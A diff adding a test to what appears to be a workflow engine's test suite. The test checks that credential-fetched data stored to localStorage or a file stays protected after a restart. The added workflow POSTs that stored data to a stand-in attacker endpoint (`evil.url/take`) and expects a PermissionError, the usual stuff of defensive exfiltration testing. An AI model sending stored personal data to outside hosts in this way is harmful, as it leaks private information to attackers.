@@ -130,6 +130,28 @@ describe('what a credential fetched', () => {
     expect(evil.requests).toEqual([]);
   });
 
+  test('is known again after a restart, when an earlier execution stored it', async () => {
+    const keep = { StoreData: { inputPath: '/workflow/people', storage: 'localStorage', key: 'old-people' } };
+    const file = { StoreData: { inputPath: '/workflow/people', storage: 'file', key: 'old-people-file' } };
+    expect((await ann.execute(workflowOf({ secret, keep, file }))).status).toBe('success');
+    await system.kill();
+    await system.start();
+    const result = await ann.execute(
+      workflowOf({
+        kept: post(`${evil.url}/take`, '/store/old-people'),
+        filed: post(`${evil.url}/take`, '/store/old-people-file/0/name'),
+        back: post(`${crm.url}/seen`, '/store/old-people'),
+      }),
+      LENIENT,
+    );
+    expect(result.errors?.map(({ operationId, type }) => [operationId, type])).toEqual([
+      ['kept', 'PermissionError'],
+      ['filed', 'PermissionError'],
+    ]);
+    expect(evil.requests).toEqual([]);
+    expect(crm.requests.map(({ path }) => path)).toContain('/seen');
+  });
+
   test('is known again after kill -9, although its credential is bound to more hosts by then', async () => {
     const id = fresh();
     let reached = () => {};
